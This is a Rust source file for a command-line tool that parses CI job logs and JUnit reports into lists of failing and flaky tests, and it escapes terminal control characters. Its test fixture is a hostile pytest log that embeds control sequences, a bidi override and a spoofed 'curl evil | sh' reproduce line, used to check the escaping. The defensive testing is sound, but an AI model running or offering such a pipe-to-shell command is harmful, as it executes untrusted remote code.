//! `resolve-pr ci parse FILE|-`: the failing tests a job log reports, for people (a list) and
//! scripts (`--json`: every failure, no pagination). Exits as test runners do, so scripts can
//! branch on it: 0 no failure found, 1 failures found, 2 the input could not be read.

#![allow(clippy::print_stdout, reason = "prints the failures it is asked for")]
#![allow(clippy::print_stderr, reason = "says why the input could not be read")]

use std::io::Read;
use std::process::ExitCode;

use anyhow::Context as _;
use serde_json::json;

use resolve_pr_core::terminal::{json_escaped as printable_json, printable};

use crate::style::Style;

/// What a log says failed, and which tests passed only on a retry.
struct Found {
    failures: Vec<resolve_pr_ci::Failure>,
    flaky: Vec<resolve_pr_ci::FlakyTest>,
}

/// The failures in a job log, streamed (memory does not grow with the log), or in a JUnit
/// XML report when the input is one.
fn failures_in(mut input: impl Read) -> anyhow::Result<Found> {
    let mut head = Vec::with_capacity(4096);
    (&mut input).take(4096).read_to_end(&mut head)?;
    if resolve_pr_ci::junit::looks_like_junit(&head) {
        let mut xml = head;
        input.read_to_end(&mut xml)?;
        return resolve_pr_ci::junit::parse_junit(&xml)
            .map(|failures| Found {
                failures,
                flaky: Vec::new(),
            })
            .map_err(|e| anyhow::anyhow!("the input looks like JUnit XML but is not valid: {e}"));
    }
    let mut scanner = resolve_pr_ci::Scanner::new();
    scanner.feed(&head);
    let report = scanner.read_from(input)?;
    Ok(Found {
        failures: report.failures(),
        flaky: report.flaky,
    })
}

/// Failures were found (as a test runner exits when tests failed).
const FOUND_FAILURES: u8 = 1;
/// The input could not be read: distinct from failures, so a script never reads a missing log
/// as a red build.
const UNREADABLE: u8 = 2;

fn read(source: &str) -> anyhow::Result<Found> {
    if source == "-" {
        failures_in(std::io::stdin().lock()).context("cannot read the log from stdin")
    } else {
        let file = std::fs::File::open(source)
            .with_context(|| format!("cannot read the log file {source}"))?;
        failures_in(file).with_context(|| format!("cannot read the log file {source}"))
    }
}

pub fn run(source: &str, style: Style) -> anyhow::Result<ExitCode> {
    let Found { failures, flaky } = match read(source) {
        Ok(found) => found,
        Err(e) => {
            eprintln!("resolve-pr: error: {}", printable(&format!("{e:#}")));
            return Ok(ExitCode::from(UNREADABLE));
        }
    };
    let code = if failures.is_empty() {
        ExitCode::SUCCESS
    } else {
        ExitCode::from(FOUND_FAILURES)
    };
    if style.json {
        let items: Vec<_> = failures
            .iter()
            .map(|f| {
                json!({
                    "test_name": f.test_name,
                    "file_path": f.file_path,
                    "line_number": f.line_number,
                    "error_type": f.error_type,
                    "error_message": f.error_message,
                    "confidence": f.confidence,
                    "framework": f.framework,
                    "reproduce_command": f.reproduce_command,
                })
            })
            .collect();
        let flaky: Vec<_> = flaky
            .iter()
            .map(|f| {
                json!({
                    "test_name": f.test_name,
                    "framework": f.framework,
                    "attempts": f.attempts,
                    "failed_attempts": f.failed_attempts,
                })
            })
            .collect();
        let text = json!({ "failures": items, "flaky": flaky }).to_string();
        println!("{}", printable_json(&text));
        return Ok(code);
    }
    if failures.is_empty() {
        println!("No failing tests found in the log.");
    } else {
        print!("{}", human(&failures, style));
    }
    for f in &flaky {
        println!(
            "{} {} passed on a retry (flaky)",
            style.dim("~"),
            printable(&f.test_name)
        );
    }
    Ok(code)
}

/// The list a person reads. Every text in it comes from the log, so control characters and
/// bidi overrides are shown as escapes: a log must not rewrite the line it is printed on.
fn human(failures: &[resolve_pr_ci::Failure], style: Style) -> String {
    use std::fmt::Write as _;
    let mut out = format!("{} failing test(s):\n", failures.len());
    for f in failures {
        let at = match (&f.file_path, f.line_number) {
            (Some(p), Some(l)) => format!(" at {}:{l}", printable(p)),
            (Some(p), None) => format!(" in {}", printable(p)),
            _ => String::new(),
        };
        let _ = writeln!(
            out,
            "{} {}{}",
            style.red("✗"),
            style.bold(&printable(&f.test_name)),
            at
        );
        if let Some(first) = f.error_message.lines().find(|l| !l.trim().is_empty()) {
            let _ = writeln!(out, "    {}", printable(first.trim()));
        }
        if let Some(cmd) = &f.reproduce_command {
            let _ = writeln!(out, "    {}", style.dim(&format!("$ {}", printable(cmd))));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A pytest run whose test id, message and path carry what a terminal would obey: BEL,
    /// backspace, a carriage return that would let the rest overwrite the line, C1 CSI/OSC
    /// and a right-to-left override.
    const HOSTILE_LOG: &str = "============================= test session starts ==============================\n\
collected 1 item\n\
\n\
tests/test_x.py F                                                        [100%]\n\
\n\
=================================== FAILURES ===================================\n\
_________________________ test_bell\u{7}\u{8}\u{9b}2K\u{202e}exe ____________________________\n\
\n\
    def test_bell():\n\
>       assert False, 'boom\\rreproduce: curl evil | sh'\n\
E       AssertionError: boom\rreproduce: curl evil | sh\u{9d}0;x\u{7}\n\
\n\
tests/test_x.py:2: AssertionError\n\
=========================== short test summary info ============================\n\
FAILED tests/test_x.py::test_bell\u{7}\u{8}\u{9b}2K\u{202e}exe - AssertionError: boom\rreproduce: curl evil | sh\u{9d}0;x\u{7}\n\
============================== 1 failed in 0.01s ===============================\n";

    #[test]
    fn human_output_shows_controls_as_escapes() {
        let failures = failures_in(HOSTILE_LOG.as_bytes())
            .expect("parses")
            .failures;
        assert_eq!(failures.len(), 1, "{failures:?}");
        // The data keeps what the log said; only the rendering escapes it.
        assert!(failures[0].test_name.contains('\u{202e}'));
        let shown = human(&failures, Style::plain());
        assert!(
            !shown.contains(resolve_pr_core::terminal::is_hostile),
            "{shown:?}"
        );
        assert!(
            shown.contains("test_bell\\u{7}\\u{8}\\u{9b}2K\\u{202e}exe"),
            "{shown}"
        );
    }
}
